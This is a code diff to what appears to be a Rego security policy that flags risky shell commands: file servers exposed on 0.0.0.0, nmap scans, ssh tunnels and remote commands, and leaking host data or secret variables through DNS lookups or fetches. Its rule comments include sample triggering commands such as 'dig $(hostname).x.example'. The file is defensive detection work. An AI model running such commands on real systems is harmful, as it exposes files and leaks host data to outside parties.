@@ -85,6 +85,56 @@ hit contains {"id": "net.tunnel", "tier": 3, "stage": s.id, "msg": msg} if {
 }
 
 # METADATA
+# title: Serves files to the network
+# description: |
+#   A file server shows its folder to whoever reaches the port: on all
+#   addresses, or a folder that is not the project's.
+# custom:
+#   id: net.serve
+#   remedy: bind it to 127.0.0.1 and serve a build folder
+#   fires: python3 -m http.server 8000 --bind 0.0.0.0
+#   quiet: python3 -m http.server 8000 --bind 127.0.0.1
+hit contains {"id": "net.serve", "tier": 2, "stage": s.id, "msg": msg} if {
+	some s in input.cmd.stages
+	_serves_files(s)
+	_exposes(s)
+	msg := sprintf("serves files to the network: %s", [stage.line(s)])
+}
+
+# METADATA
+# title: Looks into networks
+# description: Scans hosts, tries passwords, records traffic.
+# custom:
+#   id: net.probe
+#   remedy: ask about one port of one host with nc -z
+#   fires: nmap -sS 10.0.0.0/24
+#   quiet: nmap -p 8080 localhost
+hit contains {"id": "net.probe", "tier": 2, "stage": s.id, "msg": msg} if {
+	some s in input.cmd.stages
+	data.guard.rules.net.probes[s.name]
+	count(s.args) > 0
+	not _own_host(s)
+	not stage.help(s)
+	msg := sprintf("looks into networks: %s", [stage.line(s)])
+}
+
+# METADATA
+# title: Data in an address
+# description: |
+#   What another program prints stands in the name or address that is asked
+#   for, and so reaches whoever answers.
+# custom:
+#   id: net.leak
+#   remedy: ask for a fixed name
+#   fires: dig $(hostname).x.example
+#   quiet: dig x.example
+hit contains {"id": "net.leak", "tier": 2, "stage": s.id, "msg": msg} if {
+	some s in input.cmd.stages
+	_leaks(s)
+	msg := sprintf("puts data into an address: %s", [stage.line(s)])
+}
+
+# METADATA
 # title: ssh that runs a local program
 # description: These options name a command that ssh starts on this machine.
 # custom:
@@ -96,7 +146,7 @@ hit contains {"id": "net.ssh_exec", "tier": 3, "stage": s.id, "msg": msg} if {
 	some s in input.cmd.stages
 	s.name in {"ssh", "scp", "sftp", "rsync"}
 	some o in s.options
-	regex.match(`(?i)(proxycommand|localcommand|permitlocalcommand|knownhostscommand)\s*[= ]`, o.value)
+	regex.match(`(?i)(proxycommand|localcommand|permitlocalcommand|knownhostscommand|remotecommand)\s*[= ]`, o.value)
 	msg := sprintf("makes %s run a program: %s", [s.name, stage.cut(o.value)])
 }
 
@@ -166,18 +216,89 @@ _listens(s) if {
 }
 
 _tunnels(s) if {
-	data.guard.tables.tunnels[s.name] == true
+	data.guard.rules.net.tunnels[s.name] == true
+	not stage.help(s)
+	not _asks_only(s)
+}
+
+_asks_only(s) if s.operands[0] in {"version", "login", "list", "help", "update"}
+
+_tunnels(s) if {
+	verbs := data.guard.rules.net.tunnel_verbs[s.name]
+	s.operands[0] in verbs
 	not stage.help(s)
 }
 
 _tunnels(s) if {
-	s.name == "ssh"
+	s.name in {"ssh", "autossh"}
 	some flag in s.flags
 	flag in {"R", "D", "w"}
 }
 
 _tunnels(s) if {
-	s.name == "ssh"
+	s.name in {"ssh", "autossh"}
 	some o in s.options
 	regex.match(`(?i)^(remoteforward|dynamicforward|tunnel)[= ]`, o.value)
+}
+
+_serves_files(s) if {
+	startswith(s.name, "python")
+	some word in s.args
+	word in {"http.server", "SimpleHTTPServer", "pyftpdlib", "uploadserver", "-mhttp.server"}
+}
+
+_serves_files(s) if s.name in {"http-server", "serve", "live-server", "static-server", "miniserve", "darkhttpd", "webfsd", "dufs"}
+
+_serves_files(s) if {
+	s.name in {"php", "ruby", "busybox", "caddy", "rclone"}
+	some word in s.args
+	word in {"-S", "httpd", "-run", "file-server", "serve"}
+}
+
+_exposes(s) if {
+	some word in s.args
+	regex.match(`(^|//|=)(0\.0\.0\.0|::|\[::\])(:|$)`, word)
+}
+
+# a folder that is neither the project's nor temporary
+_exposes(s) if {
+	some i, word in s.args
+	word in {"--directory", "-d", "-t"}
+	regex.match(`^(/|~|/home/[^/]+/?|\$HOME|\.\.)$`, s.args[i + 1])
+}
+
+_exposes(s) if {
+	s.cwd in {"/", input.session.home}
+	s.cwd != ""
+}
+
+_own_host(s) if {
+	count(s.operands) > 0
+	every op in s.operands {
+		regex.match(`^(localhost|127\.[0-9.]+|::1|[0-9,-]+)$`, op)
+	}
+}
+
+_leaks(s) if {
+	s.name in {"dig", "nslookup", "host", "ping", "drill", "kdig"}
+	count(s.takes) > 0
+}
+
+_leaks(s) if {
+	data.guard.tables.fetchers[s.name]
+	_foreign(s)
+	some from in graph.reachable(stage.feeds, s.takes)
+	data.guard.rules.net.tells[input.cmd.stages[from].name]
+}
+
+_leaks(s) if {
+	data.guard.tables.fetchers[s.name]
+	_foreign(s)
+	some word in s.operands
+	regex.match(`\$\{?[A-Za-z_]*(SECRET|PASSW|PRIVATE_KEY|CREDENTIAL|secret|passw)`, word)
+}
+
+_foreign(s) if {
+	some h in s.hosts
+	not h.loopback
 }
